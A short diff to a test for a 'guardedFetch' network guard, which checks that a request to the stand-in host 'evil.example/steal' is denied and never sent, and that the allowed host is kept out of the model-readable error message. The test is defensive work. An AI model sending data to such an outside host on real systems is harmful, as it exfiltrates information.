@@ -30,7 +30,9 @@ describe('guardedFetch', () => {
     const net = network({});
     const e = await hubErrorOf(() => guardedFetch(guard, net.fetch)('https://evil.example/steal', init));
     expect(e.code).toBe('denied');
-    expect(e.message).toContain('may reach only api.example.com');
+    // The person is shown the detail too; the model, which may read the message, is not told hosts.
+    expect(`${e.message} ${e.detail}`).toContain('may reach only api.example.com');
+    expect(e.message).not.toContain('api.example.com');
     expect(net.seen).toEqual([]);
   });
 
